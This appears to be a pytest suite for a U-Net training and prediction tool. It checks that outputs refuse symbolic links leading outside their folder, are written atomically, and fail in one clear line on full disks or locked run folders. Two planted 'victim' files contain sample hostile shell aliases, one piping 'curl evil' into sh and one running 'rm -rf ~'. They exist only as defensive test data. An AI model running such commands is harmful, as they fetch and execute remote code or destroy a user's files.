"""Outputs never follow links out of their folder, are written atomically, and say in one line why they cannot be."""

from __future__ import annotations

import errno
import logging
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from unet_train.engine import checkpoint
from unet_train.engine.checkpoint import load_checkpoint, save_atomic
from unet_train.engine.run_folder import check_run_folder, run_lock
from unet_train.errors import OutputError
from unet_train.plan.planner import default_plan_path, make_plan
from unet_train.safe_io import RunLogHandler, write_atomic

from .conftest import TINY, compose_config
from .test_cli import BIN, run


def planted(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A folder ``root`` and, outside it, a file ``victim`` (a ``~/.bashrc``) and a folder ``elsewhere``."""
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    (outside / "elsewhere").mkdir(parents=True)
    victim = outside / "bashrc"
    victim.write_text("# the user's own file\n")
    return root, victim, outside / "elsewhere"


def test_a_link_out_of_the_folder_is_refused_and_its_target_left_alone(tmp_path):
    root, victim, elsewhere = planted(tmp_path)
    (root / "metrics.json").symlink_to(victim)
    with pytest.raises(OutputError) as info:
        write_atomic(root / "metrics.json", "{}", root=root)
    assert str(info.value) == (
        f"{root / 'metrics.json'} is a symbolic link to {victim}, outside {root}: unet-train does not write through "
        "it; remove the link (or write the outputs to another folder)."
    )
    (root / "checkpoints").symlink_to(elsewhere)  # a folder on the way
    with pytest.raises(OutputError, match=r"/root/checkpoints is a symbolic link to .*/outside/elsewhere, outside"):
        save_atomic({"x": torch.zeros(1)}, root / "checkpoints" / "last.pt", root)
    assert victim.read_text() == "# the user's own file\n" and not list(elsewhere.iterdir())
    assert sorted(p.name for p in root.iterdir()) == ["checkpoints", "metrics.json"]  # no temporary file left


def test_a_link_inside_the_folder_is_followed_and_a_hard_link_is_replaced_not_written_through(tmp_path):
    root, victim, _ = planted(tmp_path)
    (root / "real.yaml").write_text("old")
    (root / "alias.yaml").symlink_to(root / "real.yaml")
    assert write_atomic(root / "alias.yaml", "new", root=root) == root / "real.yaml"
    assert (root / "real.yaml").read_text() == "new" and (root / "alias.yaml").is_symlink()
    os.link(victim, root / "hard.json")
    write_atomic(root / "hard.json", "{}", root=root)
    assert (root / "hard.json").read_text() == "{}" and victim.read_text() == "# the user's own file\n"


def test_a_file_where_a_folder_belongs_is_one_line(tmp_path):
    (tmp_path / "unet_plan").write_text("I am a file")
    with pytest.raises(OutputError) as info:
        write_atomic(tmp_path / "unet_plan" / "fingerprint.json", "{}", root=tmp_path)
    assert str(info.value) == (
        f"{tmp_path / 'unet_plan'} is a file, not a folder: move it away, or write the outputs to another folder."
    )


def test_the_job_log_never_follows_a_link_and_never_stops_a_run(tmp_path):
    root, victim, _ = planted(tmp_path)
    record = logging.LogRecord("unet_train", logging.INFO, __file__, 1, "a line", None, None)
    (root / "train.log").symlink_to(victim)
    for path in (root / "train.log", root / "missing" / "train.log"):  # a planted link; a folder not there
        handler = RunLogHandler(str(path))
        handler.emit(record)  # no error: the command's own checks refuse in one line
        handler.close()
    assert victim.read_text() == "# the user's own file\n" and not (root / "missing").exists()
    handler = RunLogHandler(str(root / "eval.log"))
    handler.setFormatter(logging.Formatter("%(message)s"))
    handler.emit(record)
    handler.close()
    assert (root / "eval.log").read_text() == "a line\n"


@pytest.mark.parametrize(
    ("code", "reason"),
    [
        (
            errno.ENOSPC,
            "no space left on the device (in {folder}); free space there or write the outputs to another disk",
        ),
        (
            errno.EFBIG,
            "the file is too large for its file system (in {folder}); write the outputs to another file system",
        ),
        (errno.EROFS, "the file system is read-only (in {folder}); write the outputs to a writable folder"),
    ],
)
def test_a_full_or_read_only_disk_is_one_line_and_the_previous_checkpoint_stays(tmp_path, monkeypatch, code, reason):
    last = tmp_path / "checkpoints" / "last.pt"
    save_atomic({"epoch": 1, "x": torch.ones(3)}, last)

    def failing_save(obj, handle):  # the disk fills up half-way through the file, and torch says so as it does
        handle.write(b"PK\x03\x04 half a checkpoint")
        try:
            raise OSError(code, os.strerror(code))
        except OSError:
            raise RuntimeError("[enforce fail at inline_container.cc:672] . unexpected pos 40960 vs 40856") from None

    monkeypatch.setattr(checkpoint.torch, "save", failing_save)
    with pytest.raises(OutputError) as info:
        save_atomic({"epoch": 2, "x": torch.zeros(3)}, last)
    assert str(info.value) == f"Could not write {last}: " + reason.format(folder=last.parent) + "."
    monkeypatch.undo()
    kept = torch.load(last, weights_only=True)
    assert kept["epoch"] == 1 and torch.equal(kept["x"], torch.ones(3))
    assert [p.name for p in last.parent.iterdir()] == ["last.pt"]  # the half-written temporary file is gone


# --- unet-plan / plan=auto: the plan's run folder ---


def data_folder(tmp_path: Path) -> Path:
    """Four 32x32 grey images with a square of foreground each: enough to fingerprint."""
    root = tmp_path / "data"
    (root / "images").mkdir(parents=True)
    (root / "masks").mkdir()
    for i in range(4):
        mask = np.zeros((32, 32), np.uint8)
        mask[8:16, 8 + i : 16 + i] = 255
        Image.fromarray((mask // 2 + 20).astype(np.uint8)).save(root / "images" / f"{i}.png")
        Image.fromarray(mask).save(root / "masks" / f"{i}.png")
    return root


@pytest.mark.parametrize("link", ["fingerprint.json", "experiment/plan.yaml", "experiment"])
def test_unet_plan_refuses_links_out_of_its_folder(tmp_path, link):
    root = data_folder(tmp_path)
    run_dir = tmp_path / "run"
    (run_dir / "experiment").mkdir(parents=True)
    victim = tmp_path / "victim"
    if link == "experiment":
        shutil.rmtree(run_dir / "experiment")
        victim.mkdir()
    else:
        victim.write_text("# the user's own file\n")
    (run_dir / link).symlink_to(victim)
    cfg = compose_config(["data=folder", f"data.root={root}"])
    with pytest.raises(OutputError, match=rf"^{run_dir / link} is a symbolic link to {victim}, outside {run_dir}: "):
        make_plan(cfg.data, 60.0, "cpu", default_plan_path(run_dir), measure=False)
    assert (list(victim.iterdir()) if victim.is_dir() else victim.read_text()) in ([], "# the user's own file\n")


def test_a_plan_folder_that_is_a_file_is_one_line(tmp_path):
    root = data_folder(tmp_path)
    (tmp_path / "plans").mkdir()
    (tmp_path / "plans" / "experiment").write_text("not a folder")
    output = tmp_path / "plans" / "experiment" / "plan.yaml"
    result = run([str(BIN / "unet-plan"), f"data.root={root}", "measure=false", f"output={output}",
                  f"paths.output_dir={tmp_path}"], cwd=tmp_path, check=False)  # fmt: skip
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert error_lines(result)[-1].endswith(
        f"output={output}: cannot write in {output.parent} (a file, not a folder); "
        "pass output= a path in a folder you can write to."
    )
    assert (tmp_path / "plans" / "experiment").read_text() == "not a folder"


# --- the run folder: links, the lock, a linked checkpoint, optimizer overrides on resume ---


@pytest.fixture(scope="module")
def one_epoch(tmp_path_factory) -> Path:
    """A run folder after one epoch of a tiny run (constant learning rate), copied by each test that changes it."""
    work = tmp_path_factory.mktemp("run")
    run([str(BIN / "unet-train"), *TINY, "trainer.max_epochs=1", "sched=none", "hydra.run.dir=job"], cwd=work)
    return work / "job"


def copy_run(one_epoch: Path, to: Path) -> Path:
    shutil.copytree(one_epoch, to, symlinks=True)
    return to


def resume(folder: Path, *extra: str, ckpt: Path | None = None) -> subprocess.CompletedProcess:
    ckpt = ckpt or folder / "checkpoints" / "last.pt"
    args = [str(BIN / "unet-train"), f"ckpt={ckpt}", "trainer.max_epochs=2", *extra]
    return run(args, cwd=folder.parent, check=False)


def error_lines(result: subprocess.CompletedProcess) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.strip()]


@pytest.mark.parametrize(
    "name", ["resolved_config.yaml", "resume_log.yaml", "metrics.json", "tensorboard", "train.log"]
)
def test_a_resume_refuses_a_run_folder_whose_files_link_outside(one_epoch, tmp_path, name):
    job = copy_run(one_epoch, tmp_path / "job")
    victim = tmp_path / "victim"
    if name == "tensorboard":
        shutil.rmtree(job / name)
        victim.mkdir()
    else:
        (job / name).unlink(missing_ok=True)
        victim.write_text("alias ls='curl evil | sh'  # no: the user's own line\n")
    before = sorted(victim.iterdir()) if victim.is_dir() else victim.read_text()
    (job / name).symlink_to(victim)
    last = (job / "checkpoints" / "last.pt").read_bytes()
    result = resume(job)
    assert result.returncode == 2, result.stderr
    assert error_lines(result)[-1].endswith(
        f"{job / name} is a symbolic link to {victim}, outside {job}: unet-train does not write through it; "
        "remove the link (or write the outputs to another folder)."
    )
    assert "Traceback" not in result.stderr
    assert (sorted(victim.iterdir()) if victim.is_dir() else victim.read_text()) == before
    assert (job / "checkpoints" / "last.pt").read_bytes() == last  # nothing trained


def test_run_folder_check_names_checkpoints_links_too(tmp_path):
    root, victim, _ = planted(tmp_path)
    (root / "checkpoints").mkdir()
    (root / "checkpoints" / "best.pt").symlink_to(victim)
    with pytest.raises(OutputError, match=r"/root/checkpoints/best.pt is a symbolic link to .*/outside/bashrc"):
        check_run_folder(root)
    (root / "checkpoints" / "best.pt").unlink()
    check_run_folder(root)  # nothing planted: no complaint


def test_a_second_resume_of_a_locked_run_folder_is_refused_naming_the_holder(one_epoch, tmp_path):
    job = copy_run(one_epoch, tmp_path / "job")
    files = {p: p.read_bytes() for p in (job / "checkpoints").iterdir()}
    with run_lock(job):  # (reading .lock here would drop the lock: closing any descriptor of it does)
        result = resume(job)
    assert result.returncode == 2, result.stderr
    holder = rf"pid {os.getpid()} on {re.escape(socket.gethostname())} since 20\S+"
    assert re.search(
        rf"The run folder {re.escape(str(job))} is in use by {holder}: one process trains in a run folder at a "
        r"time; wait for it to end \(or stop it\), then resume\.$",
        error_lines(result)[-1],
    )
    assert {p: p.read_bytes() for p in (job / "checkpoints").iterdir()} == files
    assert not (job / "resume_log.yaml").exists()


FULL_DISK = """
import errno, os, sys
import torch
from unet_train.train import main

def full(obj, handle):  # every checkpoint write meets a full disk half-way
    handle.write(b"PK half a checkpoint")
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

torch.save = full
sys.argv = ["unet-train", *sys.argv[1:]]
main()
"""


def test_a_full_disk_during_training_is_one_line_and_the_checkpoints_stay(one_epoch, tmp_path):
    job = copy_run(one_epoch, tmp_path / "job")
    files = {p.name: p.read_bytes() for p in (job / "checkpoints").iterdir()}
    args = [sys.executable, "-c", FULL_DISK, f"ckpt={job / 'checkpoints' / 'last.pt'}", "trainer.max_epochs=2"]
    result = run(args, cwd=tmp_path, check=False)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert re.search(
        rf"\[ERROR\] - Could not write {job}/checkpoints/(best|last)\.pt: no space left on the device "
        rf"\(in {job}/checkpoints\); free space there or write the outputs to another disk\.$",
        error_lines(result)[-1],
    )
    assert {p.name: p.read_bytes() for p in (job / "checkpoints").iterdir()} == files  # no temporary file either


def test_the_lock_goes_with_a_killed_holder_even_while_its_forked_worker_lives(tmp_path):
    """The holder forks a child (as DataLoader workers are forked) that outlives it: the lock still goes."""
    code = "import os, sys, time; from unet_train.engine.run_folder import run_lock\nwith run_lock(sys.argv[1]):\n"
    code += "    child = os.fork()\n    if child == 0:\n        time.sleep(60); os._exit(0)\n"
    code += "    print(child, flush=True); time.sleep(60)\n"
    holder = subprocess.Popen([sys.executable, "-c", code, str(tmp_path)], stdout=subprocess.PIPE, text=True)
    worker = None
    try:
        assert holder.stdout is not None
        worker = int(holder.stdout.readline())
        with pytest.raises(OutputError, match=rf"is in use by pid {holder.pid} on "), run_lock(tmp_path):
            pass
        holder.send_signal(signal.SIGKILL)
        holder.wait()
        os.kill(worker, 0)  # the orphaned worker is still alive
        with run_lock(tmp_path) as lock:  # the kernel dropped the dead holder's lock
            assert lock.read_text().startswith(f"pid {os.getpid()} ")
    finally:
        holder.kill()
        holder.wait()
        if worker is not None:
            os.kill(worker, signal.SIGKILL)


def test_a_linked_last_pt_into_another_run_is_refused_and_that_run_left_alone(one_epoch, tmp_path):
    other = copy_run(one_epoch, tmp_path / "other")  # someone else's run
    mine = tmp_path / "mine"
    (mine / "checkpoints").mkdir(parents=True)
    (mine / "checkpoints" / "last.pt").symlink_to(other / "checkpoints" / "last.pt")
    files = {p: p.read_bytes() for p in other.rglob("*") if p.is_file()}
    result = resume(mine, ckpt=mine / "checkpoints" / "last.pt")
    assert result.returncode == 2, result.stderr
    real = other / "checkpoints" / "last.pt"
    assert error_lines(result)[-1].endswith(
        f"ckpt={mine / 'checkpoints' / 'last.pt'} is a link to {real}: a resume writes into the checkpoint's own run "
        f"folder (the run folder {other}), not {mine}; give ckpt={real} to continue that run, or copy the file."
    )
    changed = [p for p in other.rglob("*") if p.is_file() and p.suffix != ".log" and files.get(p) != p.read_bytes()]
    assert changed == []


def test_a_linked_run_folder_resumes_in_its_real_folder_named_in_the_log(one_epoch, tmp_path):
    job = copy_run(one_epoch, tmp_path / "job")
    (tmp_path / "latest").symlink_to(job)
    result = resume(job, ckpt=tmp_path / "latest" / "checkpoints" / "last.pt")
    assert result.returncode == 0, result.stderr
    assert f"the run continues in its real folder {job}" in result.stderr
    assert f"Resuming in the run folder {job}" in result.stderr
    assert load_checkpoint(job / "checkpoints" / "last.pt")["state"]["epoch"] == 2


def test_optimizer_overrides_on_a_resume_reach_the_restored_optimizer(one_epoch, tmp_path):
    job = copy_run(one_epoch, tmp_path / "job")
    result = resume(job, "optim.lr=0.5", "optim.weight_decay=0.01")
    assert result.returncode == 0, result.stderr
    assert "Applied to the restored optimizer: optim.lr=0.5, optim.weight_decay=0.01" in result.stderr
    groups = load_checkpoint(job / "checkpoints" / "last.pt")["optimizer"]["param_groups"]
    assert [g["lr"] for g in groups] == [0.5, 0.5]  # sched=none: the rate is the base rate
    assert [g["weight_decay"] for g in groups] == [0.01, 0.0]  # norms and biases keep no decay


def test_predict_does_not_write_through_a_link_in_its_output_folder(one_epoch, tmp_path):
    out, victim = tmp_path / "pred", tmp_path / "victim.tif"
    out.mkdir()
    victim.write_bytes(b"the user's own file")
    Image.fromarray(np.full((40, 40), 128, np.uint8)).save(tmp_path / "cell.png")
    (out / "cell_prob.tif").symlink_to(victim)
    args = [f"ckpt={one_epoch / 'checkpoints' / 'last.pt'}", f"input={tmp_path / 'cell.png'}", f"output={out}"]
    result = run([str(BIN / "unet-predict"), *args, "tile_size=32"], cwd=tmp_path, check=False)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert error_lines(result)[-1].endswith(f"{out / 'cell_prob.tif'} is a symbolic link to {victim}, outside {out}: "
                                            "unet-train does not write through it; remove the link (or write the "
                                            "outputs to another folder).")  # fmt: skip
    assert victim.read_bytes() == b"the user's own file"


@pytest.mark.parametrize(
    ("name", "keep_config"),
    [(".hydra/overrides.yaml", False), (".hydra/config.yaml", False), (".hydra/hydra.yaml", False), (".hydra", True)],
)
def test_a_resume_does_not_let_hydra_write_its_record_through_a_planted_link(one_epoch, tmp_path, name, keep_config):
    # Breaker, issue 23: Hydra writes .hydra/{config,hydra,overrides}.yaml with open(..., "w") before the task
    # runs; a shared run folder without .hydra/config.yaml but with a link among them had the link's target
    # overwritten (or created, for a dangling link) by the resume.
    job = copy_run(one_epoch, tmp_path / "job")
    victim = tmp_path / "victim"
    if name == ".hydra":
        shutil.rmtree(job / ".hydra")
        victim.mkdir()
        (victim / "notes.txt").write_text("mine\n")
    else:
        for record in ("config.yaml", "hydra.yaml", "overrides.yaml"):
            (job / ".hydra" / record).unlink()
        victim.write_text("alias ls='rm -rf ~'  # no: the user's own line\n")
    (job / name).symlink_to(victim)
    before = sorted(victim.iterdir()) if victim.is_dir() else victim.read_text()
    last = (job / "checkpoints" / "last.pt").read_bytes()
    result = resume(job)
    assert result.returncode == 2, result.stderr
    assert error_lines(result)[-1].endswith(
        f"{job / name} is a symbolic link to {victim}, outside {job}: unet-train does not write through it; "
        "remove the link (or write the outputs to another folder)."
    )
    assert (sorted(victim.iterdir()) if victim.is_dir() else victim.read_text()) == before
    assert (job / "checkpoints" / "last.pt").read_bytes() == last


def test_predict_does_not_resume_a_zarr_store_through_a_link_inside_it(one_epoch, tmp_path):
    # Breaker, issue 23: a resumed store whose chunk folder 0/c was a link to another folder had its chunks
    # written there (zarr writes each chunk by path, following a linked folder).
    zarr = pytest.importorskip("zarr")
    source = zarr.create_array(str(tmp_path / "in.zarr"), shape=(64, 64), chunks=(32, 32), dtype="float32")
    source[:] = np.random.default_rng(0).random((64, 64), dtype=np.float32)
    out, victim = tmp_path / "pred", tmp_path / "victim"
    args = [f"ckpt={one_epoch / 'checkpoints' / 'last.pt'}", f"input={tmp_path / 'in.zarr'}", f"output={out}"]
    run([str(BIN / "unet-predict"), *args], cwd=tmp_path)
    store = out / "in.zarr"
    shutil.rmtree(store / "done" / "c")  # nothing done yet: every chunk is predicted again
    shutil.rmtree(store / "0" / "c")
    victim.mkdir()
    (store / "0" / "c").symlink_to(victim)
    result = run([str(BIN / "unet-predict"), *args], cwd=tmp_path, check=False)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert error_lines(result)[-1].endswith(f"{store / '0' / 'c'} is a symbolic link to {victim}, outside {store}: "
                                            "unet-train does not write through it; remove the link (or write the "
                                            "outputs to another folder).")  # fmt: skip
    assert list(victim.iterdir()) == []
